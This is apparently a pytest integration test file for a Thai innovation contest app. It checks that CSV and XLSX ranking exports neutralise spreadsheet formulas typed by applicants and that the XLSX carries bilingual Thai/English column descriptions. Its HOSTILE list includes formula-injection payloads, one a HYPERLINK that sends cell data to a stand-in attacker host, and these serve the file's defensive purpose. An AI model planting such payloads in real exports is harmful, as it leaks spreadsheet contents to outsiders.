"""Ranking exports (CSV and XLSX): what an applicant typed never runs as a formula in an
organiser's spreadsheet, and the XLSX explains its columns in Thai and English."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from contest.spreadsheets import neutralise_formula
from contest.tables import Entry
from tests.conftest import run
from tests.factories import login_token, make_user
from tests.judging.support import score_all, screening

pytestmark = pytest.mark.integration

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"ดูผลงาน")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1"]


def _admin(client):  # type: ignore[no-untyped-def]
    run(make_user("admin", email="exports@dga.or.th"))
    return login_token(client, "exports@dga.or.th")


def _hostile_round() -> tuple[int, dict[int, str]]:
    s = screening(entries=len(HOSTILE) + 1, reviewers=3, per_entry=2, shortlist_size=2)
    titles = dict(zip(s.entries, HOSTILE, strict=False))
    for entry_id, title in titles.items():
        run(Entry.update({Entry.title: title}).where(Entry.id == entry_id))
    score_all(s.round_id, lambda e, r, c: float(e % 10))
    return s.round_id, titles


def test_csv_export_neutralises_formulas_typed_by_applicants(client) -> None:  # type: ignore[no-untyped-def]
    round_id, titles = _hostile_round()
    resp = client.get(f"/api/v1/rounds/{round_id}/ranking.csv", headers=_admin(client))
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert header[:6] == ["rank", "entry_id", "organisation_code", "organisation_name_th", "province_name_th",
                          "title"]
    by_entry = {int(r[1]): r for r in rows[1:]}
    for entry_id, title in titles.items():
        assert by_entry[entry_id][5] == "'" + title
    # Plain titles and numbers are left exactly as they are (a negative number stays a number).
    plain = next(r for e, r in by_entry.items() if e not in titles)
    assert plain[5].startswith("นวัตกรรมบริการดิจิทัล")
    assert neutralise_formula(-1.5) == -1.5 and neutralise_formula("ก-1") == "ก-1"


def test_xlsx_export_writes_text_never_formulas_and_has_a_data_dictionary(client) -> None:  # type: ignore[no-untyped-def]
    round_id, titles = _hostile_round()
    resp = client.get(f"/api/v1/rounds/{round_id}/ranking.xlsx", headers=_admin(client))
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        assert not any("<f>" in archive.read(n).decode("utf-8") for n in sheets)  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    assert book.sheetnames == ["ranking", "data_dictionary"]
    sheet = book["ranking"]
    header = [c.value for c in sheet[1]]
    title_col = header.index("title") + 1
    assert sheet.cell(row=2, column=title_col).value == "ชื่อผลงาน / Innovation title"
    seen = {}
    for row in range(3, sheet.max_row + 1):
        cell = sheet.cell(row=row, column=title_col)
        seen[sheet.cell(row=row, column=2).value] = cell
    for entry_id, title in titles.items():
        cell = seen[entry_id]
        # (a carriage return is stored as the XML escape _x000D_, which openpyxl leaves as it is)
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == title
    score = sheet.cell(row=3, column=header.index("score") + 1)
    assert isinstance(score.value, (int, float)) and score.number_format == "0.00"  # a number, 2 decimals shown
    assert sheet.column_dimensions["F"].width >= 40  # the title is wide enough to read
    assert sheet.freeze_panes == "A3"

    dictionary = {r[0]: r for r in book["data_dictionary"].iter_rows(min_row=2, values_only=True)}
    assert list(dictionary)[:3] == ["rank", "entry_id", "organisation_code"]
    assert dictionary["spread"][1:3] == ("การกระจายของคะแนน", "Spread")
    fit = dictionary["mean_fit"]
    assert fit[1] == "ค่าเฉลี่ย: ความสอดคล้องระหว่างปัญหาและความต้องการของประชาชนกับโซลูชันดิจิทัล"
    assert fit[2] == "Mean: Fit between local problems or citizens' needs and the digital solution"
    assert fit[4].endswith("from 0 to 10.") and "ตั้งแต่ 0 ถึง 10" in fit[3]
    assert set(header) <= set(dictionary)


def test_xlsx_export_shows_outcomes_in_thai_and_english(client) -> None:  # type: ignore[no-untyped-def]
    round_id, _ = _hostile_round()
    headers = _admin(client)
    client.post(f"/api/v1/rounds/{round_id}/close", headers=headers)
    assert client.post(f"/api/v1/rounds/{round_id}/decide", headers=headers, json={}).status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/api/v1/rounds/{round_id}/ranking.xlsx",
                                                        headers=headers).content))
    sheet = book["ranking"]
    header = [c.value for c in sheet[1]]
    outcomes = {sheet.cell(row=r, column=header.index("outcome") + 1).value for r in range(3, sheet.max_row + 1)}
    assert outcomes == {"ผ่านการคัดเลือก / Shortlisted", "ไม่ผ่านการคัดเลือก / Not shortlisted"}
    # The CSV keeps the codes programs read.
    rows = list(csv.reader(io.StringIO(client.get(f"/api/v1/rounds/{round_id}/ranking.csv",
                                                  headers=headers).content.decode("utf-8-sig"))))
    assert {r[rows[0].index("outcome")] for r in rows[1:]} == {"shortlisted", "not_shortlisted"}
